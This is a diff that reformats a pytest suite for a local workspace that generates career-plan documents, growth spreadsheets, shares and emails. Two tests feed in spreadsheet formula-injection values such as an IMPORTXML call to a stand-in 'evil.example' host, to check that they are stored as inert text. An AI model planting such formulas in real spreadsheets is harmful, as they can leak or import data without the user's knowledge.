@@ -93,16 +93,33 @@ def folder(workspace: LocalWorkspace) -> Artifact:
     return workspace.create_folder(ALICE, "Alice Ångström — Career", FY)
 
 
-def make_igp(workspace: LocalWorkspace, folder: Artifact, template: TemplateRef,
-             values: dict[str, str] | None = None, name: str = "IGP") -> Artifact:
-    return workspace.create_file(ALICE, ArtifactKind.IGP, folder, name, template,
-                                 VALUES if values is None else values, FY)
+def make_igp(
+    workspace: LocalWorkspace,
+    folder: Artifact,
+    template: TemplateRef,
+    values: dict[str, str] | None = None,
+    name: str = "IGP",
+) -> Artifact:
+    return workspace.create_file(
+        ALICE, ArtifactKind.IGP, folder, name, template, VALUES if values is None else values, FY
+    )
 
 
-def make_sheet(workspace: LocalWorkspace, folder: Artifact, template: TemplateRef,
-               values: dict[str, str] | None = None) -> Artifact:
-    return workspace.create_file(ALICE, ArtifactKind.GROWTH_SHEET, folder, "Growth plan",
-                                 template, VALUES if values is None else values, FY)
+def make_sheet(
+    workspace: LocalWorkspace,
+    folder: Artifact,
+    template: TemplateRef,
+    values: dict[str, str] | None = None,
+) -> Artifact:
+    return workspace.create_file(
+        ALICE,
+        ArtifactKind.GROWTH_SHEET,
+        folder,
+        "Growth plan",
+        template,
+        VALUES if values is None else values,
+        FY,
+    )
 
 
 def path_of(workspace: LocalWorkspace, artifact: Artifact) -> Path:
@@ -121,23 +138,29 @@ def leftovers(directory: Path) -> list[str]:
 
 
 def test_template_tokens_come_from_runs_split_runs_tables_headers_and_footers(
-        workspace: LocalWorkspace, igp_template: TemplateRef) -> None:
+    workspace: LocalWorkspace, igp_template: TemplateRef
+) -> None:
     assert workspace.template_tokens(igp_template) == (NAME, EMAIL)
 
 
 def test_template_tokens_of_a_workbook_are_its_text_cells_not_its_formulas(
-        workspace: LocalWorkspace, growth_template: TemplateRef) -> None:
+    workspace: LocalWorkspace, growth_template: TemplateRef
+) -> None:
     assert workspace.template_tokens(growth_template) == (NAME, EMAIL)
 
 
-@pytest.mark.parametrize("name, content", [
-    ("missing.docx", None),
-    ("notes.txt", b"{{ person.name }}"),
-    ("damaged.docx", b"not a zip file"),
-    ("damaged.xlsx", b"PK\x03\x04 truncated"),
-])
+@pytest.mark.parametrize(
+    "name, content",
+    [
+        ("missing.docx", None),
+        ("notes.txt", b"{{ person.name }}"),
+        ("damaged.docx", b"not a zip file"),
+        ("damaged.xlsx", b"PK\x03\x04 truncated"),
+    ],
+)
 def test_unreadable_template_is_a_template_error_naming_the_path(
-        workspace: LocalWorkspace, tmp_path: Path, name: str, content: bytes | None) -> None:
+    workspace: LocalWorkspace, tmp_path: Path, name: str, content: bytes | None
+) -> None:
     path = tmp_path / name
     if content is not None:
         path.write_bytes(content)
@@ -145,8 +168,9 @@ def test_unreadable_template_is_a_template_error_naming_the_path(
         workspace.template_tokens(TemplateRef(ArtifactKind.IGP, name, path))
 
 
-def test_google_template_needs_the_google_backend(workspace: LocalWorkspace,
-                                                  folder: Artifact) -> None:
+def test_google_template_needs_the_google_backend(
+    workspace: LocalWorkspace, folder: Artifact
+) -> None:
     template = TemplateRef(ArtifactKind.IGP, "gdoc:abc", google_id="abc")
     with pytest.raises(TemplateError, match="google backend"):
         workspace.template_tokens(template)
@@ -158,34 +182,42 @@ def test_google_template_needs_the_google_backend(workspace: LocalWorkspace,
 
 
 def test_tokens_are_replaced_in_runs_split_runs_tables_headers_and_footers(
-        workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef) -> None:
+    workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef
+) -> None:
     document = docx.Document(str(path_of(workspace, make_igp(workspace, folder, igp_template))))
     section = document.sections[0]
-    assert paragraph_texts(document)[:2] == ["Plan for Alice Ångström",
-                                             f"Email: {ALICE} (work)"]
+    assert paragraph_texts(document)[:2] == ["Plan for Alice Ångström", f"Email: {ALICE} (work)"]
     assert document.tables[0].cell(0, 1).text == "Owner: Alice Ångström"
     assert section.header.paragraphs[0].text == "IGP — Alice Ångström"
     assert section.footer.paragraphs[0].text == f"Contact {ALICE}"
     assert document.paragraphs[0].runs[1].bold
     first_run = document.paragraphs[1].runs[0]
     assert (first_run.text, first_run.italic, first_run.font.size) == (
-        f"Email: {ALICE}", True, Pt(14))
+        f"Email: {ALICE}",
+        True,
+        Pt(14),
+    )
 
 
 def test_values_are_plain_text_and_never_rendered_again(
-        workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef) -> None:
+    workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef
+) -> None:
     values = {NAME: "{{ person.email }} & <b>", EMAIL: "x\x00y"}
-    document = docx.Document(str(path_of(workspace, make_igp(workspace, folder, igp_template,
-                                                             values))))
-    assert paragraph_texts(document)[:2] == ["Plan for {{ person.email }} & <b>",
-                                             "Email: xy (work)"]
+    document = docx.Document(
+        str(path_of(workspace, make_igp(workspace, folder, igp_template, values)))
+    )
+    assert paragraph_texts(document)[:2] == [
+        "Plan for {{ person.email }} & <b>",
+        "Email: xy (work)",
+    ]
 
 
-@pytest.mark.parametrize("value", ["=IMPORTXML(\"http://x\", \"//a\")", "+1", "-1", "@SUM(A1)",
-                                   "#N/A", "007"])
+@pytest.mark.parametrize(
+    "value", ['=IMPORTXML("http://x", "//a")', "+1", "-1", "@SUM(A1)", "#N/A", "007"]
+)
 def test_workbook_values_that_look_like_formulas_stay_text(
-        workspace: LocalWorkspace, folder: Artifact, growth_template: TemplateRef,
-        value: str) -> None:
+    workspace: LocalWorkspace, folder: Artifact, growth_template: TemplateRef, value: str
+) -> None:
     sheet = make_sheet(workspace, folder, growth_template, {NAME: "Alice", EMAIL: value})
     about = openpyxl.load_workbook(path_of(workspace, sheet))["About"]
     assert (about["A2"].value, about["A2"].data_type) == (value, "s")
@@ -194,42 +226,53 @@ def test_workbook_values_that_look_like_formulas_stay_text(
 
 
 def test_missing_value_is_a_template_error_and_writes_nothing(
-        workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef) -> None:
+    workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef
+) -> None:
     with pytest.raises(TemplateError, match=r"\{\{ person.email \}\}"):
         make_igp(workspace, folder, igp_template, {NAME: "Alice"})
     assert sorted(p.name for p in path_of(workspace, folder).iterdir()) == [MARKER_FILE]
 
 
 def test_recreating_over_an_existing_file_is_refused_and_keeps_the_persons_edits(
-        workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef) -> None:
+    workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef
+) -> None:
     path = path_of(workspace, make_igp(workspace, folder, igp_template))
     path.write_bytes(b"my own words")
     with pytest.raises(WorkspaceError, match="never overwrites"):
-        workspace.create_file(ALICE, ArtifactKind.IGP, folder, "IGP", igp_template, VALUES,
-                              "FY2027")
+        workspace.create_file(
+            ALICE, ArtifactKind.IGP, folder, "IGP", igp_template, VALUES, "FY2027"
+        )
     assert path.read_bytes() == b"my own words"
 
 
 def test_a_second_document_of_one_kind_in_one_year_is_refused(
-        workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef) -> None:
+    workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef
+) -> None:
     make_igp(workspace, folder, igp_template)
     with pytest.raises(WorkspaceError, match="already exists"):
         make_igp(workspace, folder, igp_template, name="Another IGP")
 
 
 def test_a_file_is_never_made_in_someone_elses_folder(
-        workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef) -> None:
+    workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef
+) -> None:
     with pytest.raises(WorkspaceError, match="belongs to"):
         workspace.create_file(BOB, ArtifactKind.IGP, folder, "IGP", igp_template, VALUES, FY)
 
 
-def test_writes_leave_no_temporary_files(workspace: LocalWorkspace, folder: Artifact,
-                                         igp_template: TemplateRef,
-                                         growth_template: TemplateRef) -> None:
+def test_writes_leave_no_temporary_files(
+    workspace: LocalWorkspace,
+    folder: Artifact,
+    igp_template: TemplateRef,
+    growth_template: TemplateRef,
+) -> None:
     make_igp(workspace, folder, igp_template)
     make_sheet(workspace, folder, growth_template)
     assert sorted(p.name for p in path_of(workspace, folder).iterdir()) == [
-        MARKER_FILE, "Growth plan.xlsx", "IGP.docx"]
+        MARKER_FILE,
+        "Growth plan.xlsx",
+        "IGP.docx",
+    ]
 
 
 # -- the growth sheet's acknowledgement column -----------------------------------------------
@@ -244,14 +287,17 @@ def column_locked(sheet: Any, column: int) -> bool:
 
 
 def test_growth_sheet_locks_only_the_acknowledged_column(
-        workspace: LocalWorkspace, folder: Artifact, growth_template: TemplateRef) -> None:
-    sheet = openpyxl.load_workbook(path_of(workspace, make_sheet(workspace, folder,
-                                                                 growth_template)))
+    workspace: LocalWorkspace, folder: Artifact, growth_template: TemplateRef
+) -> None:
+    sheet = openpyxl.load_workbook(
+        path_of(workspace, make_sheet(workspace, folder, growth_template))
+    )
     conversations = sheet[CONVERSATIONS_TAB]
     assert conversations.protection.sheet
     assert conversations.protection.password is None
     assert [c.protection.locked for c in conversations[1]] == [
-        i == ACK_COLUMN for i in range(1, len(CONVERSATIONS_HEADER) + 1)]
+        i == ACK_COLUMN for i in range(1, len(CONVERSATIONS_HEADER) + 1)
+    ]
     probes = [1, 4, ACK_COLUMN, ACK_COLUMN + 1, 27, 16384]
     assert [column_locked(conversations, c) for c in probes] == [c == ACK_COLUMN for c in probes]
     assert conversations.column_dimensions["D"].width == NOTES_WIDTH
@@ -259,7 +305,8 @@ def test_growth_sheet_locks_only_the_acknowledged_column(
 
 
 def test_growth_template_without_an_acknowledged_column_is_refused(
-        workspace: LocalWorkspace, folder: Artifact, tmp_path: Path) -> None:
+    workspace: LocalWorkspace, folder: Artifact, tmp_path: Path
+) -> None:
     workbook = openpyxl.Workbook()
     workbook.active.title = CONVERSATIONS_TAB
     workbook.active.append(["Date", "Notes"])
@@ -274,8 +321,11 @@ def test_growth_template_without_an_acknowledged_column_is_refused(
 
 
 def test_find_artifacts_returns_what_was_created(
-        workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef,
-        growth_template: TemplateRef) -> None:
+    workspace: LocalWorkspace,
+    folder: Artifact,
+    igp_template: TemplateRef,
+    growth_template: TemplateRef,
+) -> None:
     igp = make_igp(workspace, folder, igp_template)
     sheet = make_sheet(workspace, folder, growth_template)
     os.utime(path_of(workspace, igp), (NOON, NOON))
@@ -285,7 +335,10 @@ def test_find_artifacts_returns_what_was_created(
     assert set(mine) == {ArtifactKind.FOLDER, ArtifactKind.IGP, ArtifactKind.GROWTH_SHEET}
     found_igp = mine[ArtifactKind.IGP]
     assert (found_igp.id, found_igp.name, found_igp.fy) == (
-        "Alice Ångström — Career/IGP.docx", "IGP", FY)
+        "Alice Ångström — Career/IGP.docx",
+        "IGP",
+        FY,
+    )
     assert found_igp.url == path_of(workspace, igp).as_uri()
     assert found_igp.modified == "2026-11-26T12:00:00.000Z"
     assert mine[ArtifactKind.GROWTH_SHEET].id == sheet.id
@@ -293,7 +346,8 @@ def test_find_artifacts_returns_what_was_created(
 
 
 def test_a_file_deleted_by_hand_is_not_found_and_can_be_made_again(
-        workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef) -> None:
+    workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef
+) -> None:
     path_of(workspace, make_igp(workspace, folder, igp_template)).unlink()
     assert ArtifactKind.IGP not in workspace.find_artifacts([ALICE], FY)[ALICE]
     again = make_igp(workspace, folder, igp_template)
@@ -301,7 +355,8 @@ def test_a_file_deleted_by_hand_is_not_found_and_can_be_made_again(
 
 
 def test_a_person_has_one_folder_for_every_year(
-        workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef) -> None:
+    workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef
+) -> None:
     make_igp(workspace, folder, igp_template)
     next_year = workspace.find_artifacts([ALICE], "FY2027")[ALICE]
     assert list(next_year) == [ArtifactKind.FOLDER]
@@ -310,30 +365,33 @@ def test_a_person_has_one_folder_for_every_year(
 
 
 def test_a_folder_renamed_by_hand_is_still_the_persons_folder(
-        workspace: LocalWorkspace, folder: Artifact) -> None:
+    workspace: LocalWorkspace, folder: Artifact
+) -> None:
     path_of(workspace, folder).rename(workspace.output_dir / "Alice (renamed)")
     again = workspace.create_folder(ALICE, "Alice Ångström — Career", FY)
     assert again.id == "Alice (renamed)"
     assert [p.name for p in workspace.output_dir.iterdir()] == ["Alice (renamed)"]
 
 
-def test_people_with_the_same_folder_name_get_separate_folders(
-        workspace: LocalWorkspace) -> None:
+def test_people_with_the_same_folder_name_get_separate_folders(workspace: LocalWorkspace) -> None:
     first = workspace.create_folder(ALICE, "John Smith", FY)
     second = workspace.create_folder(BOB, "John Smith", FY)
     assert (first.id, second.id) == ("John Smith", "John Smith (2)")
     assert workspace.find_artifacts([BOB], FY)[BOB][ArtifactKind.FOLDER] == second
 
 
-@pytest.mark.parametrize("name, safe", [
-    ('Ana/Bö: "a*b?" <c|d> \\ e', "Ana_Bö_ _a_b__ _c_d_ _ e"),
-    ("Zoë 🚀 Growth", "Zoë 🚀 Growth"),
-    ("tab\there\x7fand\x85", "tab_here_and_"),
-    (".hidden", "_hidden"),
-    ("  trailing dots... ", "trailing dots"),
-    ("CON", "_CON"),
-    ("é" * 300, "é" * 100),
-])
+@pytest.mark.parametrize(
+    "name, safe",
+    [
+        ('Ana/Bö: "a*b?" <c|d> \\ e', "Ana_Bö_ _a_b__ _c_d_ _ e"),
+        ("Zoë 🚀 Growth", "Zoë 🚀 Growth"),
+        ("tab\there\x7fand\x85", "tab_here_and_"),
+        (".hidden", "_hidden"),
+        ("  trailing dots... ", "trailing dots"),
+        ("CON", "_CON"),
+        ("é" * 300, "é" * 100),
+    ],
+)
 def test_names_are_made_filesystem_safe_keeping_accents_and_emoji(name: str, safe: str) -> None:
     assert safe_name(name) == safe
 
@@ -345,7 +403,8 @@ def test_a_name_with_nothing_usable_is_refused(name: str) -> None:
 
 
 def test_a_damaged_marker_is_an_error_not_a_second_folder(
-        workspace: LocalWorkspace, folder: Artifact) -> None:
+    workspace: LocalWorkspace, folder: Artifact
+) -> None:
     (path_of(workspace, folder) / MARKER_FILE).write_text("{not json", encoding="utf-8")
     with pytest.raises(WorkspaceError, match="repair or delete"):
         workspace.find_artifacts([ALICE], FY)
@@ -364,16 +423,19 @@ def test_storage_failures_are_workspace_errors(tmp_path: Path) -> None:
 # -- sharing ---------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("first, second, granted, held", [
-    ("writer", "writer", False, "writer"),
-    ("writer", "reader", False, "writer"),
-    ("commenter", "reader", False, "commenter"),
-    ("reader", "commenter", True, "commenter"),
-    ("reader", "writer", True, "writer"),
-])
+@pytest.mark.parametrize(
+    "first, second, granted, held",
+    [
+        ("writer", "writer", False, "writer"),
+        ("writer", "reader", False, "writer"),
+        ("commenter", "reader", False, "commenter"),
+        ("reader", "commenter", True, "commenter"),
+        ("reader", "writer", True, "writer"),
+    ],
+)
 def test_shares_are_idempotent_and_only_ever_upgrade(
-        workspace: LocalWorkspace, folder: Artifact, first: str, second: str, granted: bool,
-        held: str) -> None:
+    workspace: LocalWorkspace, folder: Artifact, first: str, second: str, granted: bool, held: str
+) -> None:
     assert workspace.share(ALICE, folder, BOB, first) is True
     assert workspace.share(ALICE, folder, BOB.upper(), second) is granted
     found = workspace.find_artifacts([ALICE], FY)[ALICE][ArtifactKind.FOLDER]
@@ -381,11 +443,13 @@ def test_shares_are_idempotent_and_only_ever_upgrade(
 
 
 def test_shares_on_the_folder_show_on_its_files(
-        workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef) -> None:
+    workspace: LocalWorkspace, folder: Artifact, igp_template: TemplateRef
+) -> None:
     igp = make_igp(workspace, folder, igp_template)
     workspace.share(ALICE, folder, BOB, "commenter")
     assert workspace.find_artifacts([ALICE], FY)[ALICE][ArtifactKind.IGP].shares == (
-        (BOB, "commenter"),)
+        (BOB, "commenter"),
+    )
     assert workspace.share(ALICE, igp, BOB, "reader") is False
 
 
@@ -398,9 +462,11 @@ def test_an_unknown_role_is_refused(workspace: LocalWorkspace, folder: Artifact)
 
 
 def test_email_is_an_eml_file_in_the_outbox_and_never_overwritten(
-        workspace: LocalWorkspace) -> None:
-    message = Email("hr@example.com", ALICE, "Your growth plan ✓", "Hej Ångström,\nsee you.",
-                    cc=(BOB,))
+    workspace: LocalWorkspace,
+) -> None:
+    message = Email(
+        "hr@example.com", ALICE, "Your growth plan ✓", "Hej Ångström,\nsee you.", cc=(BOB,)
+    )
     workspace.send_email(message)
     workspace.send_email(message)
     files = sorted((workspace.output_dir / OUTBOX).iterdir())
@@ -408,7 +474,11 @@ def test_email_is_an_eml_file_in_the_outbox_and_never_overwritten(
     assert all(f.name.endswith(f"-{ALICE}.eml") for f in files)
     parsed = email.message_from_bytes(files[0].read_bytes(), policy=email.policy.default)
     assert (parsed["From"], parsed["To"], parsed["Cc"], parsed["Subject"]) == (
-        "hr@example.com", ALICE, BOB, "Your growth plan ✓")
+        "hr@example.com",
+        ALICE,
+        BOB,
+        "Your growth plan ✓",
+    )
     assert parsed.get_content() == "Hej Ångström,\nsee you.\n"
     assert parsed.get_content_charset() == "utf-8"
 
@@ -429,11 +499,16 @@ def log_conversation(path: Path, *rows: list[Any]) -> None:
 
 
 def test_read_conversations_returns_the_rows_below_the_header(
-        workspace: LocalWorkspace, folder: Artifact, growth_template: TemplateRef) -> None:
+    workspace: LocalWorkspace, folder: Artifact, growth_template: TemplateRef
+) -> None:
     sheet = make_sheet(workspace, folder, growth_template)
     when = datetime(2026, 5, 4)
-    log_conversation(path_of(workspace, sheet), [when, BOB, "Career", "Went well", True],
-                     [None, None, None, None, None, None], ["", None])
+    log_conversation(
+        path_of(workspace, sheet),
+        [when, BOB, "Career", "Went well", True],
+        [None, None, None, None, None, None],
+        ["", None],
+    )
     (read,) = workspace.read_conversations([sheet])
     assert (read.person, read.error) == (ALICE, None)
     assert read.rows == [[when, BOB, "Career", "Went well", True]]
@@ -445,19 +520,27 @@ def remove_tab(path: Path) -> None:
     workbook.save(path)
 
 
-@pytest.mark.parametrize("damage, error", [
-    (remove_tab, "no 'Conversations' tab"),
-    (Path.unlink, "does not exist"),
-    (lambda path: path.write_bytes(b"garbage"), "cannot read"),
-])
+@pytest.mark.parametrize(
+    "damage, error",
+    [
+        (remove_tab, "no 'Conversations' tab"),
+        (Path.unlink, "does not exist"),
+        (lambda path: path.write_bytes(b"garbage"), "cannot read"),
+    ],
+)
 def test_an_unreadable_sheet_is_an_error_entry_and_the_others_are_still_read(
-        workspace: LocalWorkspace, folder: Artifact, growth_template: TemplateRef,
-        damage: Any, error: str) -> None:
+    workspace: LocalWorkspace,
+    folder: Artifact,
+    growth_template: TemplateRef,
+    damage: Any,
+    error: str,
+) -> None:
     broken = make_sheet(workspace, folder, growth_template)
     damage(path_of(workspace, broken))
     bob_folder = workspace.create_folder(BOB, "Bob", FY)
-    fine = workspace.create_file(BOB, ArtifactKind.GROWTH_SHEET, bob_folder, "Growth plan",
-                                 growth_template, VALUES, FY)
+    fine = workspace.create_file(
+        BOB, ArtifactKind.GROWTH_SHEET, bob_folder, "Growth plan", growth_template, VALUES, FY
+    )
     first, second = workspace.read_conversations([broken, fine])
     assert first.person == ALICE
     assert first.error is not None and error in first.error
@@ -480,15 +563,26 @@ def test_read_central_is_none_before_anything_was_written(workspace: LocalWorksp
     assert workspace.read_central(PEOPLE_TAB) is None
     workspace.write_central([people([ALICE, "Alice", "due"])])
     assert workspace.read_central(SUMMARY_TAB) is None
-    assert workspace.read_central(PEOPLE_TAB) == (["Email", "Name", "Status"],
-                                                  [[ALICE, "Alice", "due"]])
+    assert workspace.read_central(PEOPLE_TAB) == (
+        ["Email", "Name", "Status"],
+        [[ALICE, "Alice", "due"]],
+    )
 
 
 def test_write_central_keeps_user_added_columns_by_email_and_other_tabs(
-        workspace: LocalWorkspace) -> None:
-    path = Path(workspace.write_central([
-        people([ALICE, "Alice", "due"], [BOB, "Bob", "due"], ["carol@example.com", "Carol", "due"]),
-    ]))
+    workspace: LocalWorkspace,
+) -> None:
+    path = Path(
+        workspace.write_central(
+            [
+                people(
+                    [ALICE, "Alice", "due"],
+                    [BOB, "Bob", "due"],
+                    ["carol@example.com", "Carol", "due"],
+                ),
+            ]
+        )
+    )
     workbook = openpyxl.load_workbook(path)
     tab = workbook[PEOPLE_TAB]
     tab["D1"], tab["E1"] = "Coach", "Follow-up"
@@ -497,23 +591,31 @@ def test_write_central_keeps_user_added_columns_by_email_and_other_tabs(
     workbook.create_sheet("My notes")["A1"] = "keep me"
     workbook.save(path)
 
-    workspace.write_central([
-        people([BOB.upper(), "Bob", "acknowledged"], ["dave@example.com", "Dave", "due"],
-               [ALICE, "Alice", "acknowledged"]),
-    ])
+    workspace.write_central(
+        [
+            people(
+                [BOB.upper(), "Bob", "acknowledged"],
+                ["dave@example.com", "Dave", "due"],
+                [ALICE, "Alice", "acknowledged"],
+            ),
+        ]
+    )
 
     assert workspace.read_central(PEOPLE_TAB) == (
         ["Email", "Name", "Status", "Coach", "Follow-up"],
-        [[BOB.upper(), "Bob", "acknowledged", "Eve"],
-         ["dave@example.com", "Dave", "due"],
-         [ALICE, "Alice", "acknowledged", "Dana", datetime(2026, 12, 1)]],
+        [
+            [BOB.upper(), "Bob", "acknowledged", "Eve"],
+            ["dave@example.com", "Dave", "due"],
+            [ALICE, "Alice", "acknowledged", "Dana", datetime(2026, 12, 1)],
+        ],
     )
     assert workspace.read_central("My notes") == (["keep me"], [])
     assert openpyxl.load_workbook(path).sheetnames == [PEOPLE_TAB, "My notes"]
 
 
 def test_write_central_writes_text_as_text_with_a_bold_frozen_header(
-        workspace: LocalWorkspace) -> None:
+    workspace: LocalWorkspace,
+) -> None:
     name = '=IMPORTXML("http://evil.example", "//a")'
     path = workspace.write_central([people([ALICE, name, 3])])
     tab = openpyxl.load_workbook(path)[PEOPLE_TAB]
@@ -535,13 +637,16 @@ def unserialisable_cell(monkeypatch: pytest.MonkeyPatch) -> Table:
     return Table(SUMMARY_TAB, ["Department", "Due"], [["Sales", object()]])
 
 
-@pytest.mark.parametrize("fail, error", [
-    (fail_fsync, "No space left"),
-    (unserialisable_cell, "cannot store a object"),
-])
+@pytest.mark.parametrize(
+    "fail, error",
+    [
+        (fail_fsync, "No space left"),
+        (unserialisable_cell, "cannot store a object"),
+    ],
+)
 def test_a_failed_write_leaves_the_previous_workbook_intact(
-        workspace: LocalWorkspace, monkeypatch: pytest.MonkeyPatch, fail: Any,
-        error: str) -> None:
+    workspace: LocalWorkspace, monkeypatch: pytest.MonkeyPatch, fail: Any, error: str
+) -> None:
     path = Path(workspace.write_central([people([ALICE, "Alice", "due"])]))
     before = path.read_bytes()
     extra = fail(monkeypatch)
@@ -553,8 +658,12 @@ def test_a_failed_write_leaves_the_previous_workbook_intact(
 
 
 def test_a_chart_is_drawn_to_the_right_of_its_table(workspace: LocalWorkspace) -> None:
-    table = Table(SUMMARY_TAB, ["Department", "Acknowledged"], [["Sales", 3], ["R&D", 5]],
-                  chart=ChartSpec("Acknowledged by department", 0, 1, 2))
+    table = Table(
+        SUMMARY_TAB,
+        ["Department", "Acknowledged"],
+        [["Sales", 3], ["R&D", 5]],
+        chart=ChartSpec("Acknowledged by department", 0, 1, 2),
+    )
     tab = openpyxl.load_workbook(workspace.write_central([table]))[SUMMARY_TAB]
     (chart,) = tab._charts
     assert chart.title.tx.rich.p[0].r[0].t == "Acknowledged by department"
@@ -565,8 +674,9 @@ def test_a_chart_is_drawn_to_the_right_of_its_table(workspace: LocalWorkspace) -
 
 
 def test_rewriting_a_tab_replaces_its_chart(workspace: LocalWorkspace) -> None:
-    table = Table(SUMMARY_TAB, ["Department", "Due"], [["Sales", 3]],
-                  chart=ChartSpec("Due", 0, 1, 1))
+    table = Table(
+        SUMMARY_TAB, ["Department", "Due"], [["Sales", 3]], chart=ChartSpec("Due", 0, 1, 1)
+    )
     workspace.write_central([table])
     tab = openpyxl.load_workbook(workspace.write_central([table]))[SUMMARY_TAB]
     assert len(tab._charts) == 1
@@ -586,10 +696,11 @@ SHIPPED_TEMPLATES = {
 }
 
 
-@pytest.mark.skipif(not all(p.is_file() for p in SHIPPED_TEMPLATES.values()),
-                    reason="the shipped templates are not there yet")
-def test_the_shipped_templates_fill_completely(workspace: LocalWorkspace,
-                                               folder: Artifact) -> None:
+@pytest.mark.skipif(
+    not all(p.is_file() for p in SHIPPED_TEMPLATES.values()),
+    reason="the shipped templates are not there yet",
+)
+def test_the_shipped_templates_fill_completely(workspace: LocalWorkspace, folder: Artifact) -> None:
     made = {}
     for kind, path in SHIPPED_TEMPLATES.items():
         template = TemplateRef(kind, path.name, path)
@@ -604,8 +715,7 @@ def test_the_shipped_templates_fill_completely(workspace: LocalWorkspace,
     workbook = openpyxl.load_workbook(sheet)
     assert workbook.sheetnames == ["About", "Growth Plan", CONVERSATIONS_TAB]
     conversations = workbook[CONVERSATIONS_TAB]
-    assert [c.value for c in conversations[1]][:len(CONVERSATIONS_HEADER)] == \
-        CONVERSATIONS_HEADER
+    assert [c.value for c in conversations[1]][: len(CONVERSATIONS_HEADER)] == CONVERSATIONS_HEADER
     assert conversations.protection.sheet
     assert column_locked(conversations, ACK_COLUMN)
     assert not column_locked(conversations, 1)
